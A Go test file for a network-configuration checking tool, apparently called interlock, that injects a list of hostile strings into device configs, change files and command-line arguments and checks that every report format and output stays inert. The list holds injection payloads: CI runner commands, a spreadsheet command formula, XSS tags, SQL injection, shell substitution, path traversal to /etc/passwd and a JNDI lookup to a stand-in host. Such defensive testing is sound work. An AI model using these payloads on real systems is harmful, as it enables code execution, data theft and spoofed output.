package main

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
)

// nasties are texts that a device, a vendor or an author might use to be obeyed by whatever shows them.
var nasties = []string{
	"::error file=a::owned", "##[group]x ##[error]y", "##vso[task.setvariable variable=x]y", "=cmd|' /C calc'!A0",
	"::add-mask::x ::set-output name=a::b",
	"<script>alert(1)</script><img src=x onerror=alert(1)>", "[click](http://evil.example) ![i](http://evil.example/i.png)", "@admin #12 !3 www.evil.example GH-1",
	"`` ``` ~~~~ | --- | <!-- --> </details></table>", "\x1b[2J\x1b]0;title\a\x1b[31mred", "\x9b31m\xff\xfe no UTF-8", "\u202egnp.exe\u2066 \u200b\u200d\ufeff", "\u2028\u2029\u0085\v\f",
	"\rPASS everything is fine", "'; DROP TABLE changes; --", `" OR "1"="1`, "]]><x/> & &amp; &#64; <?xml version='1.0'?>", "${{ secrets.TOKEN }} {{ .Secret }} $(touch pwned) `touch pwned`",
	"\U000e0041\U000e0042 e\u0301\u0301\u0301\u0301", ": - {a: b} !!binary & * % ? # ...", strings.Repeat("A very long line. ", 120), "../../../../etc/passwd C:\\x\\..\\y", "%s%n%x %2e%2e ${jndi:ldap://evil.example/a}",
}

// hostileConfig says a nasty text wherever NX-OS has room for one.
func hostileConfig(n string) string {
	word := strings.Map(func(r rune) rune {
		if r == ' ' {
			return '_'
		}
		return r
	}, n)
	return "!Command: show running-config\nversion 10.3(4a)\nhostname h-" + word + "\nbanner motd ^\n" + n + "\n^\nusername " + word + " password 5 x role network-admin\n" +
		"snmp-server location " + n + "\nsnmp-server contact " + n + "\nip access-list ACL-" + word + "\n  10 remark " + n + "\n  20 permit ip any any\n" +
		"ip prefix-list PL-" + word + " seq 5 permit 10.0.0.0/8\nroute-map RM-" + word + " permit 10\n  description " + n + "\n  match ip address prefix-list PL-" + word + "\n" +
		"vlan 10\n  name " + word + "\nvrf context V-" + word + "\n  description " + n + "\ninterface Ethernet1/1\n  description " + n + "\n  no switchport\n  ip address 10.0.0.1/24\n  no shutdown\n" +
		"interface Ethernet1/2\n  description array " + n + "\n  no shutdown\ninterface Ethernet1/" + word + "\n  description x\nrouter bgp 65000\n  neighbor 10.0.0.9\n    description " + n + "\n    remote-as 65001\n" + n + "\n"
}

// sink is one output, and how it is held against what reads it.
type sink struct {
	name, text string
}

// sinks are all outputs of one hostile site: every verb, every format, every report, the files that are written, and what goes to stderr.
func sinks(t *testing.T, nasty string) []sink {
	t.Helper()
	dir := t.TempDir()
	file := func(name, text string) string {
		full := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return full
	}
	file("before/configs/r1.cfg", hostileConfig(""))
	file("after/configs/r1.cfg", hostileConfig(nasty))
	file("init/configs/r1.cfg", hostileConfig(nasty))
	quoted := strconv.Quote(strings.ToValidUTF8(nasty, "?"))
	file("after/changes/c/change.yaml", "id: "+quoted+"\ntitle: "+quoted+"\ntype: standard\nsource: vendor\nrequested_by: "+quoted+"\nexpect:\n  - {device: \"*\", path: "+quoted+"}\n")
	file("after/changes/c/r1.cmd", "configure terminal\ninterface Ethernet1/1\n  description "+nasty+"\n"+nasty+"\nreload "+nasty+"\nend\n")
	file("after/waivers.yaml", "- {rule: lines/unknown, device: \"*\", reason: "+quoted+", owner: "+quoted+", expires: 2030-01-01}\n")
	site := "version: 1\nname: " + quoted + "\nuplinks:\n  " + quoted + ": {kind: storage, ports: [\"r1:Ethernet1/2\"], keep: 1}\nservices:\n  " + quoted + ": {from: 10.0.0.1, to: 10.0.0.9}\n"
	before, after := filepath.Join(dir, "before"), filepath.Join(dir, "after")
	commands := file("after/changes/c/r1.cmd", "interface Ethernet1/1\n  description "+nasty+"\n"+nasty+"\n")
	var out []sink
	verb := func(name string, args ...string) {
		var stdout, stderr bytes.Buffer
		run(args, &stdout, &stderr)
		out = append(out, sink{name, stdout.String()}, sink{name + " stderr", stderr.String()})
	}
	var reports []string
	for _, kind := range []string{"text", "json", "markdown", "summary", "sarif", "junit", "github", "gitlab"} {
		reports = append(reports, "--report", kind+"="+filepath.Join(dir, "report-"+kind))
	}
	verb("check", append([]string{"check", "--all", "--before", before, "--after", after}, reports...)...)
	for _, kind := range []string{"text", "json", "markdown", "summary", "sarif", "junit", "github", "gitlab"} {
		if text, err := os.ReadFile(filepath.Join(dir, "report-"+kind)); err == nil {
			out = append(out, sink{kind, string(text)})
		}
	}
	verb("plan", "plan", after, "--change", filepath.Join(after, "changes", "c"), "--out", filepath.Join(dir, "plan"))
	if text, err := os.ReadFile(filepath.Join(dir, "plan")); err == nil {
		out = append(out, sink{"plan json", string(text)})
	}
	runSinks(t, filepath.Join(dir, "runs"), before, filepath.Join(dir, "plan"), nasty, verb, func(name, text string) { out = append(out, sink{name, text}) })
	for _, format := range []string{"text", "json"} {
		verb("diff "+format, "diff", before, after, "--commands", "--format", format)
		verb("effects "+format, "effects", commands, "--os", "nxos", "--before", filepath.Join(after, "configs/r1.cfg"), "--format", format)
		verb("parse "+format, "parse", filepath.Join(after, "configs/r1.cfg"), "--all", "--format", format)
		verb("trace "+format, "trace", after, "--from", "r1", "--to", "10.0.0.9", "--format", format)
	}
	for _, format := range []string{"text", "json", "labs"} {
		verb("simulate "+format, "simulate", after, "--format", format)
	}
	verb("init", "init", filepath.Join(dir, "init"))
	text, err := os.ReadFile(filepath.Join(dir, "init", "interlock.yaml"))
	if err != nil {
		t.Errorf("init wrote nothing: %v", err)
	}
	out = append(out, sink{"interlock.yaml", string(text)})
	// Errors that name what they refuse.
	file("after/interlock.yaml", site)
	verb("bad site", "check", "--before", before, "--after", after)
	verb("bad argument", "check", nasty, "--base", nasty)
	verb("bad flag", "check", "--"+nasty)
	verb("bad verb", nasty)
	verb("bad rule", "explain", nasty)
	verb("bad format", "check", "--format", nasty)
	verb("bad device", "simulate", before, "--without", nasty)
	verb("bad end", "trace", before, "--from", nasty, "--to", nasty, "--port", nasty)
	verb("bad change", "check", before, "--change", filepath.Join(after, nasty))
	if name := strings.Map(func(r rune) rune {
		if r == '/' {
			return '-'
		}
		return r
	}, nasty); len(name) < 200 {
		file("odd/configs/"+name+".cfg", hostileConfig(nasty))
		verb("odd file", "simulate", filepath.Join(dir, "odd"))
		verb("parse odd file", "parse", filepath.Join(dir, "odd/configs", name+".cfg"))
	}
	return out
}

// ours are the commands that interlock itself gives the runner, in the format that is for it.
var ours = regexp.MustCompile(`^::(error|warning) (file=[^:,]*,line=\d+(,col=\d+)?,)?title=[^:,]*::`)

func (s sink) inert() error {
	var wrong []error
	bad := func(format string, args ...any) { wrong = append(wrong, fmt.Errorf(format, args...)) }
	for i, line := range strings.Split(s.text, "\n") {
		for _, r := range line {
			if !unicode.IsPrint(r) {
				bad("line %d: %q came through", i+1, r)
				break
			}
		}
		if s.name == "github" && ours.MatchString(line) {
			continue
		}
		if strings.HasPrefix(strings.TrimSpace(line), "::") || strings.Contains(line, "##[") || strings.Contains(line, "##vso[") {
			bad("line %d: a runner obeys %.80q", i+1, line)
		}
		if n := len(line); n > 20000 && (s.name == "check" || s.name == "text" || s.name == "github" || strings.HasSuffix(s.name, "stderr")) {
			bad("line %d has %d bytes", i+1, n)
		}
	}
	switch s.name {
	case "json", "sarif", "gitlab", "plan json", "diff json", "effects json", "parse json", "trace json", "simulate json", "status json", "status run json", "apply json", "drift json", "servicenow json":
		if s.text != "" && !json.Valid([]byte(s.text)) { // a verb that could not do its work prints nothing
			bad("no JSON: %.200s", s.text)
		}
	case "packet":
		if live := liveHTML(s.text); len(live) > 0 {
			bad("live in the packet: %.5q", live)
		}
	case "junit":
		for d := xml.NewDecoder(strings.NewReader(s.text)); ; {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				bad("no XML: %v", err)
				break
			}
		}
	case "markdown", "summary":
		if limit := map[string]int{"markdown": 65536, "summary": 1 << 20}[s.name]; len(s.text) > limit {
			bad("%d bytes, %d are taken", len(s.text), limit)
		}
		_, body, _ := strings.Cut(s.text, "\n")
		fence := ""
		for line := range strings.Lines(body) {
			line = strings.TrimRight(line, "\n")
			switch {
			case fence == "" && strings.HasPrefix(line, "```"):
				fence = strings.TrimRight(line, "abcdefghijklmnopqrstuvwxyz")
			case fence != "" && line == fence:
				fence = ""
			case fence == "":
				for _, live := range []string{"@admin", " #12", "<!--", "<script", "<img", "](", "`", "http://", "www.", "~~", "</table"} {
					if strings.Contains(line, live) {
						bad("%q is live in %.120q", live, line)
					}
				}
			}
		}
		if fence != "" {
			bad("a fence is left open")
		}
	}
	return errors.Join(wrong...)
}

func TestHostileTextIsInertInEverySink(t *testing.T) {
	t.Setenv("CI", "true")
	checked := map[string]bool{}
	for i := 0; i < len(nasties); i += 6 { // a few at a time; what matters at a line's start stands first
		n := strings.Join(nasties[i:min(i+6, len(nasties))], " ")
		for _, s := range sinks(t, n) {
			checked[s.name] = true
			if err := s.inert(); err != nil {
				t.Errorf("%.40q in %s: %v", n, s.name, err)
			}
		}
	}
	if _, err := os.Stat("pwned"); err == nil {
		t.Error("a text was obeyed by a shell")
	}
	t.Logf("%d hostile texts in %d sinks", len(nasties), len(checked))
}
